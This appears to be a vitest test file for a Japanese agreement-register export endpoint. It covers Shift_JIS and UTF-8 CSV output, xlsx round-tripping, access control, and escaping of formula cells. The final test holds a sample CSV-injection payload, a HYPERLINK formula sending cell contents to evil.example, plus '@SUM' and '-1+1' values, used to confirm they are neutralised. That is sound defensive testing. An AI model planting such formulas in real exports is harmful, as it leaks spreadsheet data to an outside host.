import ExcelJS from "exceljs";
import iconv from "iconv-lite";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { testDrivers } from "~/test/database";
import { startTestApp, type TestApp } from "~/test/harness";
import { buildAgreement, createMember, createOrganization } from "~/test/factories";
import { readTabular } from "~/lib/tabular.server";
import * as exportRoute from "./agreements-export";

const drivers = await testDrivers();

describe.each(drivers)("agreement register export on %s", (kind) => {
  let app: TestApp;
  beforeEach(async () => {
    app = await startTestApp(kind);
  });
  afterEach(async () => {
    await app.close();
  });

  async function setup() {
    const partner = await createOrganization(app.runtime.db, { kind: "company", name: "髙橋①商事株式会社" });
    const { desk } = await buildAgreement(app.runtime, {
      partnerIds: [partner.id],
      input: { title: "㈱髙橋①商事との連携協定", purpose: "目的", items: [{ title: "項目", field: "health" }] },
    });
    return { desk, partner };
  }

  it("writes Shift_JIS that decodes to the same Japanese, with 団体コード and 法人番号 columns", async () => {
    const { desk, partner } = await setup();
    const res = await app.call(exportRoute.loader, { path: "/api/v1/agreements/export.csv?encoding=shift_jis", token: desk.token });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toContain("Shift_JIS");
    const bytes = Buffer.from(await res.arrayBuffer());
    // Not valid UTF-8 for Japanese: it must be decoded as cp932.
    const text = iconv.decode(bytes, "cp932");
    expect(text.split("\r\n")[0]).toContain("団体コード");
    expect(text).toContain("㈱髙橋①商事との連携協定");
    expect(text).toContain("髙橋①商事株式会社");
    expect(text).toContain(partner.corporateNumber!);
  });

  it("writes UTF-8 with a BOM, and an xlsx that reads back", async () => {
    const { desk } = await setup();
    const csv = Buffer.from(
      await (await app.call(exportRoute.loader, { path: "/api/v1/agreements/export.csv?encoding=utf-8", token: desk.token })).arrayBuffer(),
    );
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.toString("utf8")).toContain("㈱髙橋①商事との連携協定");
    const xlsx = await app.call(exportRoute.loader, { path: "/api/v1/agreements/export.xlsx", token: desk.token });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await xlsx.arrayBuffer());
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getRow(1).values).toContain("相手方の法人番号");
    expect(sheet.getRow(2).getCell(2).value).toBe("㈱髙橋①商事との連携協定");
    expect(String(sheet.getRow(2).getCell(5).value)).toMatch(/^\d{6}$/);
  });

  it("exports only the caller's register and needs a token", async () => {
    await setup();
    const other = await createMember(app.runtime, { role: "desk_admin" });
    const text = Buffer.from(
      await (await app.call(exportRoute.loader, { path: "/api/v1/agreements/export.csv", token: other.token })).arrayBuffer(),
    ).toString("utf8");
    expect(text).not.toContain("髙橋");
    expect((await app.call(exportRoute.loader, { path: "/api/v1/agreements/export.csv" })).status).toBe(401);
  });

  it("neutralises formula cells in the CSV, writes them as plain text in the xlsx, and reads the CSV back unchanged", async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"詳細")';
    const partner = await createOrganization(app.runtime.db, { kind: "company", name: evil });
    const title = "-1+1 協定";
    const { desk } = await buildAgreement(app.runtime, {
      partnerIds: [partner.id],
      input: { title, purpose: "@SUM(A1:A9)", items: [{ title: "項目", field: "health" }] },
    });
    for (const encoding of ["utf-8", "shift_jis"]) {
      const bytes = Buffer.from(
        await (
          await app.call(exportRoute.loader, { path: `/api/v1/agreements/export.csv?encoding=${encoding}`, token: desk.token })
        ).arrayBuffer(),
      );
      const text = encoding === "shift_jis" ? iconv.decode(bytes, "cp932") : bytes.toString("utf8");
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""詳細"")"`);
      expect(text).toContain("'-1+1 協定");
      expect(text).toContain("'@SUM(A1:A9)");
      // What the register import reads: the quote is gone again.
      const read = await readTabular(bytes, "export.csv");
      expect(read.rows[0]).toEqual(expect.arrayContaining([evil, title, "@SUM(A1:A9)"]));
    }
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(
      await (await app.call(exportRoute.loader, { path: "/api/v1/agreements/export.xlsx", token: desk.token })).arrayBuffer(),
    );
    const sheet = workbook.worksheets[0]!;
    const cells = (sheet.getRow(2).values as unknown[]).slice(1);
    expect(cells).toContain(evil);
    sheet.getRow(2).eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
  });
});
